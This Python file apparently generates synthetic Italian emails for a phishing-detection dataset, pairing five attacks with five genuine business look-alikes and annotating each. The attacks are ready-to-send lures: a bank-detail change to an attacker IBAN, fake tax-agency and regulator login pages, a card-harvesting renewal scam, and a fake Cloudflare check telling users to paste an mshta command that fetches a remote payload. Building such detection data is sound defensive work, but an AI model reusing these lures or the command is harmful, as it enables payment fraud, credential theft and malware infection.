"""Italian messages: attacks 17-21, business 17-21."""
from kit import *

LANG = "it"
FT_PIVA = ids.it_piva("0781234063")
FT_OLD = ids.iban_it("03069", "03496", "100000012345")      # Intesa Sanpaolo (genuine)
FT_FAKE = ids.iban_it("05387", "03401", "000003318272")     # BPER (attacker)
OMV_PIVA = ids.it_piva("0612398063")
EG_IT_PIVA = ids.it_piva("0958471063")
FT_SIG = ("Ferretti Trasporti S.p.A.\nVia Ferrante Imparato 190 - 80146 Napoli\nTel. +39 081 555 4410 - www.ferretti-trasporti.it\n"
          "P.IVA %s - Cap. soc. € 1.200.000 i.v. - REA NA-612345" % FT_PIVA)


def _aruba(m, t, snd, rcpt, client, ua_outlook=True, lang="it"):
    r = m.rng
    n = r.randrange(10, 30)
    cip = "%d.%d.%d.%d" % (r.choice([93, 151, 79, 2]), r.randrange(32, 250), r.randrange(1, 250), r.randrange(1, 250))
    return outlook_smtp(m, t, snd, rcpt, "smtpdh%d-1.aruba.it" % n, "smtpdh%d-1.aruba.it" % n, "62.149.155.%d" % (140 + n),
                        client, None, cip, server_kind="aruba", lang=lang)


# ====================================================================== ATTACKS
def a17():
    m = Message("attack", 17, LANG, "ferretti-cambio-iban-lookalike")
    t = U(2026, 10, 26, 10, 2, 44)
    snd, rcpt = "c.colombo@ferretti-trasporti.eu", "francesca.russo@example.com"
    r = m.rng
    e = outlook_smtp(m, t, snd, rcpt, "mail.ferretti-trasporti.eu", "mail.ferretti-trasporti.eu", "164.92.%d.%d" % (r.randrange(128, 250), r.randrange(2, 250)),
                     "DESKTOP-8MQ1TRV", "unknown", "185.107.56.%d" % r.randrange(2, 250), lang="it")
    iban = ids.iban_fmt(FT_FAKE)
    text = """Gentile Dott.ssa Russo,

La informiamo che, a seguito della riorganizzazione della tesoreria del gruppo, dal 1° novembre 2026 Ferretti Trasporti S.p.A. opererà su un nuovo conto corrente dedicato. Il conto presso Intesa Sanpaolo finora indicato in fattura è in fase di chiusura e i bonifici in entrata verranno respinti.

Le chiediamo pertanto di aggiornare l'anagrafica fornitori e di disporre il pagamento delle fatture in scadenza sulle nuove coordinate:

Beneficiario: Ferretti Trasporti S.p.A.
Banca: BPER Banca S.p.A. – Filiale di Napoli
IBAN: %s
BIC/SWIFT: BPMOIT22XXX

Fatture in scadenza: n. 2026/1184 del 30/09/2026 (€ 6.840,00) e n. 2026/1197 del 07/10/2026 (€ 9.215,50).

In allegato la comunicazione firmata dall'Amministratore Delegato. La preghiamo di confermarci l'avvenuto aggiornamento rispondendo a questa e-mail; per motivi organizzativi l'ufficio amministrazione non è raggiungibile telefonicamente fino a fine mese.

Cordiali saluti

Chiara Colombo
Ufficio Traffico e Amministrazione
%s
""" % (iban, FT_SIG.replace("ferretti-trasporti.it", "ferretti-trasporti.eu"))
    letter = pdf([("h1", "Ferretti Trasporti S.p.A."), ("small", "Via Ferrante Imparato 190 - 80146 Napoli - P.IVA %s" % FT_PIVA), ("rule", ""),
                  ("p", "Spett.le Example Group Aviation Services GmbH\nStabile Organizzazione in Italia\nc.a. Ufficio Amministrazione"),
                  ("p", "Napoli, 23/10/2026"), ("h2", "Oggetto: comunicazione variazione coordinate bancarie"),
                  ("p", "Con la presente comunichiamo che, con decorrenza immediata, tutti i pagamenti a favore della scrivente dovranno essere effettuati esclusivamente sul seguente conto corrente:"),
                  ("mono", "Intestatario: Ferretti Trasporti S.p.A.\nBanca:        BPER Banca S.p.A. - Napoli\nIBAN:         %s\nBIC:          BPMOIT22XXX" % iban),
                  ("p", "Le precedenti coordinate non sono più valide. Si prega di aggiornare la Vostra anagrafica.\n\nDistinti saluti\n\n\nL'Amministratore Delegato\nRoberto Ferretti")],
               sec(t, 259200), title="Variazione coordinate bancarie", author="Amministrazione", creator="Microsoft Word", producer="Microsoft: Print To PDF")
    root = mixed(e, alt(e, tp(text, "windows-1252", "quoted-printable"), hp(html_outlook(text, "windows-1252", lang="IT"), "windows-1252")),
                 att("application/pdf", letter, "Comunicazione_variazione_IBAN_Ferretti.pdf"), preamble="This is a multipart message in MIME format.")
    finish(m, e, addr("Chiara Colombo", snd), addr("Francesca Russo", rcpt),
           "Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.", root, "windows-1252", "Q")
    m.what = "Carrier 'Ferretti Trasporti' announces new bank coordinates with immediate effect and asks to pay two due invoices to a new BPER account; signed-looking PDF."
    m.why = "ferretti-trasporti.eu is a look-alike of the real ferretti-trasporti.it, on a DigitalOcean droplet; old account 'will reject payments', phone unavailable, reply-only confirmation - carrier-impersonation BEC."
    return m


def a18():
    m = Message("attack", 18, LANG, "agenzia-entrate-sdi-scarto-pdf")
    t = U(2026, 10, 29, 12, 15, 31)
    snd, rcpt = "info@hotelbellavista-sorrento.it", "francesca.russo@example.com"
    r = m.rng
    host = "s4.pannellohosting.it"
    hop = exim_hop(r, "91.92.%d.%d" % (r.randrange(240, 250), r.randrange(2, 250)), "[127.0.0.1]", host, snd, sec(t, 1), rcpt=rcpt)
    e = direct(m, t, snd, rcpt, host, host, "89.46.%d.%d" % (r.randrange(104, 111), r.randrange(2, 250)), hops=[hop], tls=TLS12,
               mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", msgid="<%s@hotelbellavista-sorrento.it>" % alnum(r, 43))
    e.set("X-AntiAbuse", [v for k, v in cpanel_antiabuse(host, "example.com", snd)[:5]])
    e.set("X-Get-Message-Sender-Via", "%s: authenticated_id: %s" % (host, snd))
    e.set("X-Authenticated-Sender", "%s: %s" % (host, snd))
    url = "https://agenziaentrate-fatture.it/portale/accesso?id=18273645091"
    text = """Gentile contribuente,

il Sistema di Interscambio (SdI) ha scartato la fattura elettronica indicata di seguito, trasmessa per conto della Sua società:

Identificativo SdI: 18273645091
Cedente/prestatore: EXAMPLE GROUP AVIATION SERVICES GMBH - STABILE ORGANIZZAZIONE
Numero fattura: FPR 412/26 del 27/10/2026
Codice errore: 00305 - IdFiscaleIVA del cessionario/committente non valido

La fattura scartata si considera non emessa. Per evitare sanzioni è necessario ritrasmettere il documento corretto entro 5 giorni dalla data della presente notifica.

La notifica di scarto completa e il file XML sono disponibili nel documento allegato e nell'area riservata del portale Fatture e Corrispettivi, accessibile con SPID, CIE o CNS.

Agenzia delle Entrate
Fatture e Corrispettivi
"""
    doc = pdf([("h1", "Agenzia delle Entrate"), ("small", "Sistema di Interscambio - Notifica di scarto"), ("rule", ""),
               ("mono", "Identificativo SdI:   18273645091\nNome file:            IT%s_00xK7.xml\nData ricezione:       27/10/2026 16:41:07\n"
                        "Esito:                SCARTO\nCodice errore:        00305\nDescrizione:          1.4.1.1.2 <IdCodice> non valido" % EG_IT_PIVA),
               ("p", "La fattura elettronica non ha superato i controlli del Sistema di Interscambio e si considera non emessa."),
               ("b", "Per visualizzare il file scartato e ritrasmettere la fattura corretta acceda al portale:"),
               ("p", url), ("p", "Accesso consentito con SPID, CIE o CNS."),
               ("small", "Documento generato automaticamente dal Sistema di Interscambio. Non rispondere a questa comunicazione.")],
              t, title="Notifica di scarto", author="Agenzia delle Entrate", creator="Sistema di Interscambio", producer="iText 5.5.13")
    root = mixed(e, alt(e, tp(text, "iso-8859-1", "base64"), hp(html_esp(text, "iso-8859-1", brand="Agenzia delle Entrate", color="#0059b3", lang="it"), "iso-8859-1", "base64")),
                 att("application/pdf", doc, "Notifica_scarto_SdI_18273645091.pdf"))
    finish(m, e, addr("Agenzia delle Entrate - Fatture e Corrispettivi", snd), rcpt,
           "Notifica di scarto fattura elettronica FPR 412/26 - codice errore 00305", root, "iso-8859-1", "Q")
    m.what = "'Agenzia delle Entrate' says the SdI rejected one of the branch's e-invoices (real error code 00305) and it must be resent within 5 days via a portal; PDF notice carries the portal URL."
    m.why = "Real SdI outcomes arrive via PEC/intermediary, never from a hotel's cPanel mailbox; URL agenziaentrate-fatture.it is a look-alike asking for SPID/CIE login; link hidden in a text-only PDF to evade URL scanners."
    return m


def a19():
    m = Message("attack", 19, LANG, "aruba-pec-rinnovo-carta-phish")
    t = U(2026, 11, 9, 8, 47, 15)
    rcpt = "giuseppe.esposito@example.com"
    r = m.rng
    n = r.randrange(100, 250)
    mid = "<%s.%s@mailjet.com>" % (hexs(r, 8), alnum(r, 40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
    e = generic_esp(m, t, "bnc3.%s@bnc3.mailjet.com" % alnum(r, 12), rcpt, "o%d.p8.mailjet.com" % n, "o%d.p8.mailjet.com" % n, "87.253.232.%d" % n,
                    relay_line="from aruba-pec-servizi.it (unknown [10.%d.%d.%d])\n\tby smtp.mailjet.com (Mailjet) with ESMTP id %s\n\tfor <%%(rcpt)s>; %%(date)s" % (
                        r.randrange(1, 250), r.randrange(1, 250), r.randrange(1, 250), hexs(r, 10, True)),
                    msgid=mid, xmailer="MailjetMailer")
    e.set("X-MJ-Mid", alnum(r, 60, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"))
    e.set("X-CSA-Complaints", "csa-complaints@eco.de")
    url = "https://aruba-pec-servizi.it/rinnovo/examplegroupitalia?ref=PEC-88214730"
    text = """Gentile Cliente,

il rinnovo automatico della casella PEC examplegroupitalia@pec.it non è andato a buon fine perché la carta di pagamento associata al servizio risulta scaduta.

Se il rinnovo non viene completato entro il 14/11/2026 la casella verrà sospesa: i messaggi in arrivo (notifiche SdI, comunicazioni INPS, INAIL e Agenzia delle Entrate) verranno respinti al mittente e la casella sarà cancellata dopo 30 giorni.

Servizio: PEC Pro - 1 anno
Importo: € 5,00 + IVA

[[!Rinnova ora la tua PEC|%s]]

Grazie per aver scelto i nostri servizi.
Aruba S.p.A. - Servizio Clienti
""" % url
    html = html_esp(text, "utf-8", brand="Aruba PEC", color="#f36f21", lang="it", logo_text="aruba.it",
                    footer="Aruba S.p.A. - Via San Clemente 53 - 24036 Ponte San Pietro (BG)\n[[Privacy|https://aruba-pec-servizi.it/privacy]]",
                    font="Arial, Helvetica, sans-serif")
    root = alt(e, tp(plain(text, "colon"), "utf-8", "quoted-printable"), hp(html, "utf-8", "quoted-printable"))
    finish(m, e, addr("Aruba PEC", "rinnovi@aruba-pec-servizi.it"), rcpt,
           "Rinnovo non riuscito: la casella PEC examplegroupitalia@pec.it scade il 14/11/2026", root, "utf-8", "Q")
    m.what = "'Aruba' says the branch's certified e-mail (PEC) box failed to renew because the card expired; renew for 5 EUR via a button."
    m.why = "Italy's most common phishing lure: aruba-pec-servizi.it is not aruba.it, sent via Mailjet; small amount to harvest card data; threat that SdI/INPS messages will bounce."
    return m


def a20():
    m = Message("attack", 20, LANG, "clickfix-ddt-html-da-vettore-compromesso")
    t = U(2026, 11, 19, 15, 33, 8)
    snd, rcpt = "deluca.autotrasporti@libero.it", "giuseppe.esposito@example.com"
    e = libero(m, t, snd, rcpt)
    cmd = "mshta https://ddt-documenti.click/v/0411   # Verifica Cloudflare - ID 7731-0411 - Non sono un robot"
    page = """<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8">
<title>DDT_firmato_0411.pdf - Verifica di sicurezza</title>
<style>
body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2;margin:0}
.box{max-width:560px;margin:60px auto;background:#fff;border:1px solid #ddd;padding:28px}
.cf{color:#f38020;font-weight:700}
pre{background:#f7f7f7;border:1px solid #ccc;padding:10px;white-space:pre-wrap;font-size:12px}
ol li{margin:8px 0}
</style>
</head>
<body>
<div class="box">
<p class="cf">Cloudflare</p>
<h2>Verifica di essere un essere umano</h2>
<p>Il documento <b>DDT_firmato_0411.pdf</b> (184 KB) è protetto. Completa la verifica per visualizzarlo.</p>
<ol>
<li>Premi il tasto <b>Windows + R</b></li>
<li>Premi <b>CTRL + V</b> per incollare il codice di verifica</li>
<li>Premi <b>Invio</b></li>
</ol>
<p>Codice di verifica:</p>
<pre>%s</pre>
<p style="font-size:11px;color:#777">Ray ID: 8f2c1a7e9b3d4410 &middot; Prestazioni e sicurezza di Cloudflare</p>
</div>
</body>
</html>
""" % cmd
    text = """Buongiorno,

in allegato il DDT firmato e la lettera di vettura relativi al ritiro di ieri a Capodichino.
Il documento è protetto, per aprirlo segui le istruzioni che compaiono nel file.

Saluti
Gennaro De Luca
Autotrasporti De Luca - Caserta
"""
    root = mixed(e, alt(e, tp(text, "utf-8", "quoted-printable", label="UTF-8"), hp(html_webmail(text, "UTF-8", "Arial"), "utf-8", "quoted-printable", label="UTF-8")),
                 Part("text/html", page.encode("utf-8"), charset="UTF-8", cte="base64", filename="DDT_firmato_0411.html", disposition="attachment"))
    finish(m, e, addr("Gennaro De Luca", snd), "undisclosed-recipients:;", "DDT firmato ritiro 18/11", root, "utf-8", "Q", "UTF-8")
    m.what = "Small haulier (known correspondent, real libero.it mailbox) sends 'signed delivery note'; the HTML attachment fakes a Cloudflare check that tells the user to press Win+R, paste and Enter."
    m.why = "ClickFix via a genuinely compromised partner webmail: the 'verification code' is an mshta command fetching a remote payload (inert here: no script, fictitious host); delivery notes are never HTML pages; sent Bcc to the whole address book (undisclosed-recipients)."
    return m


def a21():
    m = Message("attack", 21, LANG, "enac-sorveglianza-parte-145-phish")
    t = U(2026, 11, 20, 9, 18, 52)
    snd, rcpt = "sorveglianza@enac-gov.it", "giuseppe.esposito@example.com"
    r = m.rng
    ip = "95.110.%d.%d" % (r.randrange(128, 250), r.randrange(2, 250))
    hop = "from enac-gov.it (localhost [127.0.0.1])\n\tby host%s.static.arubacloud.com (Postfix) with ESMTPA id %s\n\tfor <%s>; %s" % (
        ip.replace(".", "-"), hexs(r, 10, True), rcpt, rfcdate(sec(t, 1), "DE", comment=True))
    e = direct(m, t, snd, rcpt, "mail.enac-gov.it", "host%s.static.arubacloud.com" % ip.replace(".", "-"), ip, hops=[hop],
               mailer="Microsoft Outlook 16.0", msgid=outlook_msgid(r, sec(t, 3), "enac-gov.it"), bstyle="outlook")
    url = "https://portale-enac.eu/emro/login?org=IT.145.0431&rif=DOS-2026-7718"
    text = """Egregio Responsabile,

nell'ambito del programma di sorveglianza dell'impresa di manutenzione IT.145.0431 (Example Group Aviation Services - Base di Napoli Capodichino), si richiede il caricamento sul portale eMRO dell'ENAC della seguente documentazione:

- Manuale dell'organizzazione di manutenzione (MOE), revisione corrente;
- elenco aggiornato del personale certificante e relative autorizzazioni;
- piano degli audit interni 2027;
- evidenze di chiusura dei rilievi di livello 2 emessi nell'audit del 16/09/2026.

L'accesso al portale avviene con le credenziali dell'account aziendale Microsoft 365 registrato in fase di certificazione:

[[Portale eMRO - accesso organizzazioni|%s]]

La documentazione dovrà essere caricata entro il 27/11/2026. In caso di mancato riscontro entro il termine indicato, l'Ente potrà avviare le azioni previste dal punto 145.B.350 del Regolamento (UE) n. 1321/2014, inclusa la limitazione del certificato.

Distinti saluti

Ing. Paolo Ranieri
ENAC - Direzione Operazioni Sud
Ufficio Sorveglianza Imprese di Manutenzione
""" % url
    root = alt(e, tp(plain(text), "iso-8859-15", "8bit"), hp(html_outlook(text, "iso-8859-15", lang="IT"), "iso-8859-15", "8bit"))
    finish(m, e, addr("ENAC - Direzione Operazioni Sud", snd), addr("Giuseppe Esposito", rcpt),
           "Sorveglianza Parte 145 IT.145.0431 - richiesta documentazione entro il 27/11/2026", root, "iso-8859-15", "Q")
    m.what = "'ENAC' oversight office demands Part-145 documents (MOE, certifying staff list, audit plan) uploaded to an 'eMRO portal' that uses the company's Microsoft 365 login, threatening limitation of the approval."
    m.why = "Regulator impersonation tailored to the trade: enac-gov.it / portale-enac.eu are not enac.gov.it, sent from an Aruba Cloud VPS; a regulator would never ask for the company's M365 password; credential phishing with regulatory threat."
    return m


# ====================================================================== BUSINESS
def b17():
    m = Message("business", 17, LANG, "ferretti-sollecito-sospensione-servizi")
    t = U(2026, 11, 23, 11, 41, 6)
    snd, rcpt = "amministrazione@ferretti-trasporti.it", "francesca.russo@example.com"
    e = _aruba(m, t, snd, rcpt, "AMM-PC02")
    text = """Spett.le Example Group Aviation Services GmbH - Stabile Organizzazione,
alla c.a. della Dott.ssa Francesca Russo

nonostante i nostri precedenti solleciti del 30/10 e del 12/11/2026, risultano ancora insolute le seguenti fatture:

n. 2026/1184 del 30/09/2026 - scad. 30/10/2026 - € 6.840,00
n. 2026/1197 del 07/10/2026 - scad. 06/11/2026 - € 9.215,50

Totale scaduto: € 16.055,50

Vi invitiamo a provvedere al saldo entro e non oltre il 30/11/2026 mediante bonifico sulle consuete coordinate bancarie indicate in fattura (Intesa Sanpaolo, IBAN %s). In mancanza, saremo costretti a sospendere i servizi di trasporto programmati a partire dal 01/12/2026, ivi compreso il ritiro Napoli-Amburgo della settimana 49, e ad affidare la pratica al nostro legale per il recupero del credito.

Qualora il pagamento fosse già stato disposto, Vi preghiamo di inviarci la contabile e di considerare nulla la presente. Per qualsiasi chiarimento potete contattarci al numero 081 555 4412.

In allegato l'estratto conto aggiornato.

Distinti saluti

Rosaria Amato
Ufficio Amministrazione
%s
""" % (ids.iban_fmt(FT_OLD), FT_SIG)
    ec = pdf([("h1", "Estratto conto cliente"), ("small", "Ferretti Trasporti S.p.A. - P.IVA %s" % FT_PIVA), ("rule", ""),
              ("p", "Cliente: Example Group Aviation Services GmbH - S.O. Italia - cod. cliente 004417 - al 23/11/2026"),
              ("mono", "Documento      Data        Scadenza    Importo EUR\n2026/1184      30/09/2026  30/10/2026     6.840,00\n"
                       "2026/1197      07/10/2026  06/11/2026     9.215,50\n                                        ---------\nTotale scaduto                           16.055,50"),
              ("p", "Coordinate per il pagamento: Intesa Sanpaolo S.p.A. - IBAN %s" % ids.iban_fmt(FT_OLD))],
             t, title="Estratto conto 004417", author="Amministrazione", creator="TeamSystem Enterprise", producer="TeamSystem PDF")
    root = mixed(e, alt(e, tp(text, "iso-8859-15", "quoted-printable"), hp(html_outlook(text, "iso-8859-15", lang="IT"), "iso-8859-15")),
                 att("application/pdf", ec, "Estratto_conto_004417_23-11-2026.pdf"), preamble="This is a multipart message in MIME format.")
    finish(m, e, addr("Ferretti Trasporti - Amministrazione", snd), addr("Francesca Russo", rcpt),
           "SOLLECITO DI PAGAMENTO - ultimo avviso prima della sospensione dei servizi", root, "iso-8859-15", "Q")
    m.what = "Genuine final reminder from the carrier's accounts department, threatening suspension of transport and legal action; statement PDF."
    m.why = "Real domain via Aruba's outgoing relay, same invoices as attack 17 but payment to the usual Intesa account printed on the invoices, phone number offered."
    m.hardneg = [(17, "Same carrier and invoices; the genuine mail demands payment to the known account and is sent from ferretti-trasporti.it.")]
    return m


def b18():
    m = Message("business", 18, LANG, "fornitore-copia-cortesia-fattura-sdi")
    t = U(2026, 10, 30, 16, 5, 42)
    snd, rcpt = "fatture@omv-srl.it", "francesca.russo@example.com"
    e = _aruba(m, t, snd, rcpt, "OMV-SRV01")
    text = """Spett.le Example Group Aviation Services GmbH - Stabile Organizzazione in Italia,

Vi informiamo che la fattura n. 587/2026 del 30/10/2026 è stata trasmessa tramite il Sistema di Interscambio al Vostro codice destinatario ed è disponibile nel Vostro cassetto fiscale.

In allegato la copia di cortesia in formato PDF, priva di valore fiscale ai sensi dell'art. 21 del DPR 633/72.

Riepilogo:
Ordine n. EG-IT-26-0291 - realizzazione di n. 2 carrelli porta-ruote per ATR 72
Imponibile € 4.380,00 - IVA 22%% € 963,60 - Totale € 5.343,60
Pagamento: bonifico 60 gg d.f.f.m.

Cordiali saluti
Ufficio Amministrazione
Officine Meccaniche Vesuviane S.r.l.
Via Argine 842 - 80147 Napoli - P.IVA %s
""" % OMV_PIVA
    doc = pdf([("h1", "Officine Meccaniche Vesuviane S.r.l."), ("small", "Via Argine 842 - 80147 Napoli - P.IVA %s" % OMV_PIVA), ("rule", ""),
               ("b", "COPIA DI CORTESIA - Fattura n. 587/2026 del 30/10/2026"),
               ("p", "Cessionario: Example Group Aviation Services GmbH - Stabile Organizzazione in Italia - P.IVA %s" % EG_IT_PIVA),
               ("mono", "Descrizione                                   Q.ta   Prezzo    Importo\nCarrello porta-ruote ATR 72 (dis. OMV-2291)     2   2.190,00   4.380,00\n"
                        "                                          Imponibile        4.380,00\n                                          IVA 22%             963,60\n"
                        "                                          Totale EUR        5.343,60"),
               ("small", "Documento privo di valore fiscale. L'originale è stato trasmesso tramite SdI.")],
              t, title="Fattura 587/2026", author="OMV", creator="Danea Easyfatt", producer="Danea Easyfatt PDF")
    root = mixed(e, alt(e, tp(text, "windows-1252", "quoted-printable"), hp(html_outlook(text, "windows-1252", lang="IT"), "windows-1252")),
                 att("application/pdf", doc, "Fattura_587_2026_copia_cortesia.pdf"), preamble="This is a multipart message in MIME format.")
    finish(m, e, addr("OMV S.r.l. - Fatture", snd), rcpt, "Copia di cortesia fattura n. 587/2026 - Officine Meccaniche Vesuviane", root, "windows-1252", "Q")
    m.what = "Local supplier sends the courtesy PDF copy of an e-invoice already transmitted through SdI."
    m.why = "Supplier's own domain via Aruba; the PDF is the invoice itself (no links, no login); order number and amounts are concrete and verifiable."
    m.hardneg = [(18, "SdI / e-invoice topic with a PDF to the same accountant; genuine mail carries the invoice, not a portal link.")]
    return m


def b19():
    m = Message("business", 19, LANG, "newsletter-fiera-aviazione-mailup")
    t = U(2026, 11, 17, 10, 0, 4)
    rcpt = "giuseppe.esposito@example.com"
    r = m.rng
    n = r.randrange(10, 60)
    lid = r.randrange(100, 999)
    uid = alnum(r, 10, "abcdefghijklmnopqrstuvwxyz0123456789")
    e = generic_esp(m, t, "bounce-%d-%s@musvc2.net" % (lid, uid), rcpt, "mta%d.musvc2.net" % n, "mta%d.musvc2.net" % n, "185.94.%d.%d" % (r.randrange(216, 220), n),
                    relay_line="from nl%d.mailup.it (unknown [10.40.%d.%d])\n\tby mta%d.musvc2.net (Postfix) with ESMTP id %s\n\tfor <%%(rcpt)s>; %%(date)s" % (
                        r.randrange(1, 9), r.randrange(1, 250), r.randrange(1, 250), n, hexs(r, 10, True)),
                    msgid="<%d.%s.%d@musvc2.net>" % (r.randrange(10 ** 7, 10 ** 8), uid, int(t.timestamp())), xmailer="MailUp (build 9.9.1)", zone="DE")
    unsub = "https://fieraviazione.musvc2.net/frontend/nl_catalog.aspx?u=%s&l=%d" % (uid, lid)
    e.set("List-Unsubscribe", "<mailto:unsubscribe-%d-%s@musvc2.net>, <%s>" % (lid, uid, unsub))
    e.set("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")
    e.set("List-Id", "Fiera Aviazione Napoli <%d.fieraviazione.musvc2.net>" % lid)
    e.set("Precedence", "bulk")
    text = """## Fiera Aviazione Napoli 2027 - aperte le iscrizioni espositori

Gentile Giuseppe Esposito,

la quarta edizione di Fiera Aviazione Napoli si terrà alla Mostra d'Oltremare dal 12 al 14 maggio 2027. Quest'anno l'area MRO & Aftermarket sarà raddoppiata, con un padiglione dedicato alla manutenzione di componenti e ai fornitori di ricambi.

Fino al 31 gennaio 2027 gli espositori che hanno partecipato all'edizione 2026 hanno diritto allo sconto early booking del 15%%.

[[!Scopri le soluzioni espositive|https://fieraviazione.musvc2.net/e/t?q=%s]]

Tra i relatori già confermati: ENAC, Distretto Aerospaziale della Campania e le principali compagnie regionali del Sud Italia.

A presto,
La Segreteria Organizzativa

Ricevi questa e-mail perché hai partecipato a Fiera Aviazione Napoli 2026. [[Cancellati|%s]]
Fiera Aviazione Napoli S.r.l. - Piazzale Tecchio 52 - 80125 Napoli
""" % (alnum(r, 30), unsub)
    html = html_esp(text, "utf-8", brand="Fiera Aviazione Napoli", color="#0b5394", lang="it", preheader="12-14 maggio 2027, Mostra d'Oltremare")
    root = alt(e, tp(plain(text, "colon").replace("## ", ""), "utf-8", "base64"), hp(html, "utf-8", "base64"))
    finish(m, e, addr("Fiera Aviazione Napoli", "newsletter@fieraviazione.it"), addr("Giuseppe Esposito", rcpt),
           "Fiera Aviazione Napoli 2027: aperte le iscrizioni espositori", root, "utf-8", "Q")
    m.what = "Trade-fair newsletter (MailUp) inviting past exhibitors to book 2027 space, with List-Unsubscribe."
    m.why = "Subscribed sender on a bulk ESP with proper List-Id/List-Unsubscribe, marketing content only, no credentials or payment."
    return m


def b20():
    m = Message("business", 20, LANG, "vettore-ddt-firmato-pdf-libero")
    t = U(2026, 11, 5, 14, 8, 50)
    snd, rcpt = "deluca.autotrasporti@libero.it", "giuseppe.esposito@example.com"
    e = libero(m, t, snd, rcpt)
    text = """Buongiorno dott. Esposito,

le giro il DDT firmato del ritiro di ieri a Capodichino (2 casse: stand motore e kit attrezzi), consegnato stamattina a Pomigliano.

La fattura come sempre a fine mese.

Saluti
Gennaro De Luca
Autotrasporti De Luca - Caserta
cell. 333 555 8412
"""
    ddt = pdf([("h1", "DOCUMENTO DI TRASPORTO n. 0404/2026"), ("p", "Mittente: Example Group Aviation Services - Aeroporto di Napoli-Capodichino"),
               ("p", "Destinatario: Officina Pomigliano - Via Roma 12 - 80038 Pomigliano d'Arco (NA)"), ("rule", ""),
               ("mono", "Colli  Descrizione                     Peso kg\n1      Cassa stand motore CFM56         620\n1      Cassa kit attrezzi GSE            85"),
               ("p", "Causale: conto lavorazione - Vettore: Autotrasporti De Luca, Caserta - Targa FX 418 KM"),
               ("p", "Firma vettore: G. De Luca          Firma destinatario: A. Romano  04/11/2026")],
              sec(t, 7200), title="DDT 0404/2026", author="", creator="HP Scan", producer="HP Scan PDF")
    root = mixed(e, alt(e, tp(text, "utf-8", "quoted-printable", label="UTF-8"), hp(html_webmail(text, "UTF-8", "Arial"), "utf-8", "quoted-printable", label="UTF-8")),
                 att("application/pdf", ddt, "DDT_0404_firmato.pdf"))
    finish(m, e, addr("Gennaro De Luca", snd), rcpt, "DDT firmato ritiro 04/11", root, "utf-8", "Q", "UTF-8")
    m.what = "One-truck haulier sends the signed delivery note as a scanned PDF from his libero.it mailbox."
    m.why = "Same sender and infrastructure as attack 20, but the attachment is the PDF document itself; content matches the job; no instructions to run anything."
    m.hardneg = [(20, "Same correspondent, same libero.it infrastructure and 'signed DDT' topic; genuine PDF vs. ClickFix HTML.")]
    return m


def b21():
    m = Message("business", 21, LANG, "ferretti-programmazione-ritiro-napoli-amburgo")
    t = U(2026, 11, 6, 9, 22, 17)
    snd, rcpt = "c.colombo@ferretti-trasporti.it", "giuseppe.esposito@example.com"
    e = _aruba(m, t, snd, rcpt, "TRAFFICO-PC05")
    text = """Buongiorno Giuseppe,

confermo la programmazione per la settimana 46:

- ritiro lunedì 9/11 ore 14:00 presso il vostro hangar di Capodichino: 1 stand motore CFM56 (vuoto, 620 kg) e 2 casse APU (ca. 410 kg);
- groupage Napoli-Milano con scarico a Lodi martedì, trazione Milano-Amburgo mercoledì;
- consegna prevista ad Amburgo, Halle 2, venerdì 13/11 entro le 10:00.

L'autista avrà bisogno dei documenti (DDT e packing list) al momento del ritiro; per le casse APU vi chiedo di indicarci se serve il trasporto con sponda idraulica.

Tariffa come da offerta n. 2026/0877.

Un saluto
Chiara Colombo
Ufficio Traffico
%s
""" % FT_SIG
    root = alt(e, tp(text, "iso-8859-15", "quoted-printable"), hp(html_outlook(text, "iso-8859-15", lang="IT"), "iso-8859-15"))
    finish(m, e, addr("Chiara Colombo", snd), addr("Giuseppe Esposito", rcpt),
           "Programmazione ritiro settimana 46 - stand CFM56 e casse APU Napoli-Amburgo", root, "iso-8859-15", "Q",
           cc=addr("Piotr Nowak", "piotr.nowak@example.com"))
    m.what = "Carrier's traffic office confirms pick-up and delivery schedule for an engine stand and APU crates Napoli-Hamburg."
    m.why = "Real ferretti-trasporti.it via Aruba, the same person the look-alike in attack 17 impersonates; purely operational, refers to an existing quote."
    m.hardneg = [(17, "Same display name 'Chiara Colombo'; the genuine one writes from ferretti-trasporti.it about operations, not bank data.")]
    return m


ATTACKS = [a17, a18, a19, a20, a21]
BUSINESS = [b17, b18, b19, b20, b21]
